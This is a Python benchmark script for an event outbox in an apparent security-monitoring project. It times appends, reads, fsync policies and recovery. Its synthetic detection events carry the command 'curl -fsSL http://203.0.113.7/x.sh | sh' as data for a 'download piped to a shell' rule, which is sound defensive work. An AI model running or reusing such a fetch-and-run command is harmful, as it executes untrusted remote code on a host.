"""Outbox benchmark: append and read throughput, fsync policies, recovery time.

Run: ``.venv/bin/python tests/bench/bench_outbox.py`` (``make bench``). Not a test: it prints
figures and asserts nothing. Every figure is the median of several repetitions, each in a fresh
directory; events are built beforehand so only the outbox (and serialization, which it does) is
timed. About half a minute on 2 vCPUs.
"""

from __future__ import annotations

import gc
import shutil
import statistics
import sys
import tempfile
import time
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

if __package__ in (None, ""):  # run as a script: make the repo importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from mesh.stream.outbox import Outbox, OutboxConfig
from qsc.common.v1 import classification_pb2, event_pb2, identity_pb2

REPS = 5
BATCH = 512
GUARDIAN = identity_pb2.GuardianRef(id="alpha-bench", role=identity_pb2.ROLE_ALPHA, host="bench")
INTERVAL = OutboxConfig(fsync="interval", fsync_interval=timedelta(milliseconds=50))
ALWAYS = OutboxConfig(fsync="always")


def realistic_event(n: int) -> event_pb2.Event:
    """A process exec as Alpha would emit it (about 450 bytes serialized)."""
    event = event_pb2.Event(
        id=f"0190f3c2-7a1b-7c3d-8e4f-{n:012x}",
        guardian=GUARDIAN,
        severity=classification_pb2.SEVERITY_MEDIUM,
        category=classification_pb2.CATEGORY_PROCESS,
        summary="curl piped to sh by www-data",
    )
    event.time.FromNanoseconds(1_700_000_000_000_000_000 + n)
    event.observed_time.FromNanoseconds(1_700_000_000_000_500_000 + n)
    event.rule.id = "alpha.exec.curl_pipe_shell"
    event.rule.name = "Download piped to a shell"
    process = event.process
    process.pid, process.ppid, process.uid, process.gid = 4242 + n % 1000, 4000, 33, 33
    process.comm, process.exe, process.cwd = "sh", "/usr/bin/dash", "/var/www/html"
    process.args.extend(["sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"])
    process.exec_id = f"exec-{n:016x}-bench-host-0123456789abcdef"
    process.parent_exec_id = "exec-00000000000000ff-bench-host-0123456789abcdef"
    event.labels["env"] = "prod"
    event.process_exec.filename = "/bin/sh"
    return event


def median_rate(run: Callable[[Path], int], reps: int = REPS) -> tuple[float, float]:
    """Median events/s and median seconds of ``run`` (which returns the events it handled)."""
    rates, times = [], []
    for _ in range(reps):
        directory = Path(tempfile.mkdtemp(prefix="qsc-bench-outbox-"))
        try:
            gc.collect()
            started = time.perf_counter()
            count = run(directory)
            elapsed = time.perf_counter() - started
        finally:
            shutil.rmtree(directory, ignore_errors=True)
        rates.append(count / elapsed)
        times.append(elapsed)
    return statistics.median(rates), statistics.median(times)


def appends(config: OutboxConfig, events: list[event_pb2.Event]) -> Callable[[Path], int]:
    def run(directory: Path) -> int:
        with Outbox.open(directory / "o", config, guardian=GUARDIAN) as box:
            for event in events:
                box.append(event)
        return len(events)

    return run


def batches(config: OutboxConfig, events: list[event_pb2.Event]) -> Callable[[Path], int]:
    chunks = [events[i : i + BATCH] for i in range(0, len(events), BATCH)]

    def run(directory: Path) -> int:
        with Outbox.open(directory / "o", config, guardian=GUARDIAN) as box:
            for chunk in chunks:
                box.append_many(chunk)
        return len(events)

    return run


def serialize_only(events: list[event_pb2.Event]) -> Callable[[Path], int]:
    def run(_: Path) -> int:
        for event in events:
            event.SerializeToString()
        return len(events)

    return run


def fill(directory: Path, events: list[event_pb2.Event]) -> None:
    with Outbox.open(directory, INTERVAL, guardian=GUARDIAN) as box:
        for i in range(0, len(events), BATCH):
            box.append_many(events[i : i + BATCH])


def _read_all(box: Outbox) -> list[int]:
    seqs: list[int] = []
    cursor = 0
    while records := box.read_after(cursor, BATCH):
        seqs.extend(r.seq for r in records)
        cursor = records[-1].seq
    return seqs


def timed_reads(events: list[event_pb2.Event], *, reopen: bool) -> float:
    """Median events/s reading everything back in batches of 512. ``reopen``: sealed segments
    are scanned on first read, as after a restart; otherwise they are indexed beforehand."""
    rates = []
    for _ in range(REPS):
        directory = Path(tempfile.mkdtemp(prefix="qsc-bench-outbox-"))
        try:
            fill(directory / "o", events)
            with Outbox.open(directory / "o", INTERVAL, guardian=GUARDIAN) as box:
                if not reopen:
                    _read_all(box)
                gc.collect()
                started = time.perf_counter()
                count = len(_read_all(box))
                rates.append(count / (time.perf_counter() - started))
        finally:
            shutil.rmtree(directory, ignore_errors=True)
    return statistics.median(rates)


def reopen_seconds(events: list[event_pb2.Event]) -> tuple[float, int]:
    """Open time when the last segment is full: the whole of it is validated."""
    directory = Path(tempfile.mkdtemp(prefix="qsc-bench-outbox-"))
    config = OutboxConfig(segment_bytes=64 << 20, disk_budget_bytes=1 << 30)
    try:
        with Outbox.open(directory / "o", config, guardian=GUARDIAN) as box:
            for i in range(0, len(events), BATCH):
                box.append_many(events[i : i + BATCH])
            size = box.disk_bytes
        times = []
        for _ in range(REPS):
            started = time.perf_counter()
            Outbox.open(directory / "o", config, guardian=GUARDIAN).close()
            times.append(time.perf_counter() - started)
        return statistics.median(times), size
    finally:
        shutil.rmtree(directory, ignore_errors=True)


def append_latency(events: list[event_pb2.Event]) -> tuple[float, float, float]:
    """p50 / p99 / max microseconds of a single append (fsync=interval)."""
    directory = Path(tempfile.mkdtemp(prefix="qsc-bench-outbox-"))
    samples = []
    try:
        with Outbox.open(directory / "o", INTERVAL, guardian=GUARDIAN) as box:
            for event in events:
                started = time.perf_counter()
                box.append(event)
                samples.append((time.perf_counter() - started) * 1e6)
    finally:
        shutil.rmtree(directory, ignore_errors=True)
    samples.sort()
    return samples[len(samples) // 2], samples[int(len(samples) * 0.99)], samples[-1]


def main() -> None:
    many = [realistic_event(n) for n in range(100_000)]
    size = len(many[0].SerializeToString())
    print(f"event: {size} bytes serialized; {REPS} repetitions, medians")
    print(f"{'case':<44}{'events/s':>12}{'MB/s':>9}")

    def row(name: str, rate: float) -> None:
        print(f"{name:<44}{rate:>12,.0f}{rate * (size + 31) / 1e6:>9.1f}")

    row("serialize only (baseline)", median_rate(serialize_only(many[:50_000]))[0])
    row("append, fsync=interval", median_rate(appends(INTERVAL, many[:30_000]))[0])
    row(f"append_many({BATCH}), fsync=interval", median_rate(batches(INTERVAL, many))[0])
    row("append, fsync=always", median_rate(appends(ALWAYS, many[:1_000]), reps=3)[0])
    row(f"append_many({BATCH}), fsync=always", median_rate(batches(ALWAYS, many[:51_200]))[0])
    row(f"read_after({BATCH}), indexed", timed_reads(many, reopen=False))
    row(f"read_after({BATCH}), after reopen (lazy scan)", timed_reads(many, reopen=True))
    p50, p99, worst = append_latency(many[:30_000])
    print(
        f"single append latency (interval): p50 {p50:.1f} us, p99 {p99:.1f} us, max {worst:.0f} us"
    )
    seconds, nbytes = reopen_seconds(many)
    print(f"open with a full last segment of {nbytes / 2**20:.0f} MiB: {seconds * 1000:.0f} ms")


if __name__ == "__main__":
    main()
